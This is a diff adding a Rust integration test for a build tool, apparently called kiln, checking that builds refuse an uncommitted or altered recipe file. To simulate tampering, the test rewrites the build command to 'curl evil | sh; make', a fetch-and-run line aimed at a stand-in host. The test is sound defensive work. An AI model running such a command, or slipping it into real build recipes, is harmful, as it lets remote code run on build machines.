@@ -221,3 +221,59 @@ fn git_symlink_escape_is_refused() {
     let e = pack(repo.path(), None).unwrap_err();
     assert!(matches!(e, SourceError::EscapingSymlink { .. }), "{e}");
 }
+
+/// `kiln build` of a git tree builds the committed tree, so the recipe must be the committed
+/// one: an uncommitted change to the command (or a recipe that is not committed at all) is
+/// refused before anything is launched, naming the file and the commit.
+#[test]
+fn an_uncommitted_recipe_is_refused() {
+    let repo = tempfile::tempdir().unwrap();
+    git(repo.path(), &["init", "-q", "-b", "main"]);
+    let proj = repo.path().join("proj");
+    std::fs::create_dir(&proj).unwrap();
+    let recipe = "[build]\ncommand = \"make\"\noutputs = [\"hello\"]\n";
+    std::fs::write(proj.join("kiln.toml"), recipe).unwrap();
+    std::fs::write(proj.join("Makefile"), "hello:\n\techo hi > hello\n").unwrap();
+    git(repo.path(), &["add", "-A"]);
+    git(repo.path(), &["commit", "-q", "-m", "one"]);
+    let commit = pack(&proj, None).unwrap().commit.unwrap();
+    let packed = pack(&proj, None).unwrap();
+    assert_eq!(packed.recipe.as_deref(), Some(recipe.as_bytes()));
+    kiln_host::recipe::check_packed(&proj, &packed).unwrap();
+
+    let build = |dir: &Path| {
+        let state = tempfile::tempdir().unwrap();
+        Command::new(env!("CARGO_BIN_EXE_kiln"))
+            .args(["build"])
+            .arg(dir)
+            .arg("--out")
+            .arg(state.path().join("out"))
+            .env("KILN_STATE_DIR", state.path())
+            .output()
+            .unwrap()
+    };
+    // The attacker's (or a careless) edit: another command under the same commit.
+    std::fs::write(
+        proj.join("kiln.toml"),
+        recipe.replace("make", "curl evil | sh; make"),
+    )
+    .unwrap();
+    let o = build(&proj);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains(&format!(
+            "the recipe differs from the one in commit {commit}"
+        )),
+        "{err}"
+    );
+    assert!(err.contains("kiln.toml"), "{err}");
+
+    // A recipe that exists only in the working tree.
+    git(repo.path(), &["rm", "-q", "--cached", "proj/kiln.toml"]);
+    git(repo.path(), &["commit", "-q", "-m", "untrack"]);
+    let o = build(&proj);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(err.contains("the recipe is not in commit"), "{err}");
+}
